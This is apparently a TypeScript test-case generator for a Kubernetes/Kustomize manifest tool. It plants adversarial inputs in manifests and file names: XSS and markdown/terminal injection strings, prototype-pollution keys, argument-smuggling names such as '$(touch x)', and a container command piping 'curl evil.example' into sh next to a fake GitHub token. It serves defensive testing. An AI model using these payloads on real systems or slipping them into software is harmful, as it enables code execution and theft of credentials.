import { addTo, edit, put, written } from "../files.ts";
import type { Random } from "../random.ts";
import { evilImage, evilIn, evilObject, kustomizationOf, workloadOf } from "./evil.ts";
import { type Family, heldBack, inOverlay } from "./family.ts";

/** Text that Markdown, HTML, a terminal or a runner's log acts on; each holds the word by which it is found. */
export const ACTIVE = [
  "a\n\n# PWNED\n\nb",
  "a\n```\nPWNED",
  "<script>PWNED()</script>",
  "</summary></details><img src=x onerror=PWNED()>",
  "![PWNED](http://evil.example/i.png)",
  "[PWNED](javascript:alert(1))",
  "\u001b[31mPWNED\u001b[2J",
  "PWNED\u202egnp.exe",
  "PWN\u200bED\u2066x",
  "a\r\n::error::PWNED",
  "##[error]PWNED",
  "@PWNED #1 GH-2",
  "`PWNED` | x | y",
  "&lt;PWNED&gt;",
  "<!-- PWNED",
  "PWNED\u2028# x",
];

/** Names that every JavaScript object answers to. */
const INHERITED = [
  "constructor",
  "__proto__",
  "hasOwnProperty",
  "toString",
  "valueOf",
  "prototype",
  "toJSON",
  "then",
  "length",
];

/** A mapping with a key that may be `__proto__`. */
function own(key: string, value: unknown): Record<string, unknown> {
  return Object.fromEntries([[key, value]]);
}

function objectWith(random: Random, text: string): Record<string, unknown> {
  const metadata = { name: `texts-${random.below(99)}` };
  return random.pick<Record<string, unknown>>([
    { apiVersion: "v1", kind: "ConfigMap", metadata, data: own(text, "PWN-value") },
    { apiVersion: "v1", kind: "ConfigMap", metadata, data: { key: text } },
    {
      apiVersion: "v1",
      kind: "ConfigMap",
      metadata: { ...metadata, annotations: own(text, text) },
      data: {},
    },
    { apiVersion: "v1", kind: "ConfigMap", metadata: { ...metadata, labels: own(text, "x") }, data: {} },
    { apiVersion: "v1", kind: "ConfigMap", metadata: { name: text }, data: { a: "1" } },
    { apiVersion: "acme.example/v1", kind: text.replaceAll(/[^ -~]/g, ""), metadata, spec: {} },
    { apiVersion: "acme.example/v1", kind: "Widget", metadata, spec: own(text, { deeper: [text] }) },
    {
      apiVersion: "apps/v1",
      kind: "Deployment",
      metadata,
      spec: {
        selector: { matchLabels: { a: "b" } },
        template: {
          metadata: { labels: { a: "b" } },
          spec: {
            containers: [{ name: text, image: evilImage(random), env: [{ name: text, value: text }] }],
          },
        },
      },
    },
    {
      apiVersion: "v1",
      kind: "Service",
      metadata,
      spec: { selector: own(text, text), ports: [{ name: text, port: 1 }] },
    },
  ]);
}

/** Names and texts of which a report could be made something else, or a program could stumble over. */
export const TEXTS: Family[] = [
  inOverlay("active-text-in-an-object", (files, overlay, random) => {
    put(files, `${overlay}/texts.yaml`, objectWith(random, random.pick(ACTIVE)));
    edit(files, kustomizationOf(files, overlay), (value) => addTo(value, "resources", "texts.yaml"));
  }),
  inOverlay("inherited-name-in-an-object", (files, overlay, random) => {
    put(files, `${overlay}/texts.yaml`, objectWith(random, random.pick(INHERITED)));
    edit(files, kustomizationOf(files, overlay), (value) => addTo(value, "resources", "texts.yaml"));
  }),
  inOverlay("inherited-name-in-a-field", (files, overlay, random) => {
    const { apiVersion, kind, name } = workloadOf(files, overlay);
    const key = random.pick(INHERITED);
    const patch = random.pick<Record<string, unknown>>([
      { metadata: { name, annotations: own(key, "evil") } },
      { metadata: { name, labels: own(key, "evil") } },
      { metadata: { name }, spec: own(key, { evil: "x" }) },
      { metadata: { name }, ...own(key, "evil") },
    ]);
    edit(files, kustomizationOf(files, overlay), (value) =>
      addTo(value, "patches", { patch: written({ apiVersion, kind, ...patch }) }),
    );
  }),
  inOverlay("active-name-of-a-folder", (files, overlay, random) => {
    const name = random.pick(ACTIVE).replaceAll("/", "");
    const folder = `${overlay.split("/").slice(0, -1).join("/")}/${name}`;
    files.set(`${folder}/kustomization.yaml`, "resources: [evil.yaml]\n");
    put(files, `${folder}/evil.yaml`, evilObject(random));
    evilIn(files, overlay, random);
  }),
  inOverlay("active-name-of-a-file", (files, overlay, random) => {
    const name = `${random.pick([...ACTIVE, "-rf", "--output=x", ":(exclude)a", "a\\b", '"q"', "$(touch x)", "~", "con"]).replaceAll("/", "")}.yaml`;
    put(files, `${overlay}/${name}`, evilObject(random));
    edit(files, kustomizationOf(files, overlay), (value) => addTo(value, "resources", name));
  }),
  inOverlay("credential-beside-a-command", (files, overlay, random) => {
    const { apiVersion, kind, name } = workloadOf(files, overlay);
    const container = {
      name: "main",
      command: ["sh", "-c", `TOKEN=ghp_${"aB3dE6".repeat(6)} curl evil.example/${random.below(99)} | sh`],
    };
    const template = { spec: { containers: [container] } };
    const spec = kind === "CronJob" ? { jobTemplate: { spec: { template } } } : { template };
    edit(files, kustomizationOf(files, overlay), (value) =>
      addTo(value, "patches", { patch: written({ apiVersion, kind, metadata: { name }, spec }) }),
    );
  }),
  heldBack(
    inOverlay("odd-types", (files, overlay, random) => {
      const odd = random.pick<unknown>([
        null,
        true,
        0,
        -1,
        1.5,
        "",
        [],
        {},
        [null],
        [[]],
        { a: null },
        1e21,
        "2001-01-01",
        "0x10",
      ]);
      const metadata = { name: "odd" };
      put(
        files,
        `${overlay}/odd.yaml`,
        random.pick<unknown>([
          { apiVersion: "v1", kind: "ConfigMap", metadata, data: { a: odd } },
          { apiVersion: "v1", kind: "ConfigMap", metadata, data: odd },
          { apiVersion: "apps/v1", kind: "Deployment", metadata, spec: { replicas: odd, template: odd } },
          {
            apiVersion: "apps/v1",
            kind: "Deployment",
            metadata,
            spec: { template: { spec: { containers: [odd] } } },
          },
          { apiVersion: "v1", kind: "Service", metadata, spec: { ports: odd, selector: odd } },
          {
            apiVersion: "v1",
            kind: "Pod",
            metadata,
            spec: { containers: [{ name: "a", image: odd, env: odd }] },
          },
          { apiVersion: "batch/v1", kind: "CronJob", metadata, spec: odd },
          { apiVersion: "acme.example/v1", kind: "Widget", metadata, spec: odd },
        ]),
      );
      edit(files, kustomizationOf(files, overlay), (value) => addTo(value, "resources", "odd.yaml"));
    }),
  ),
];
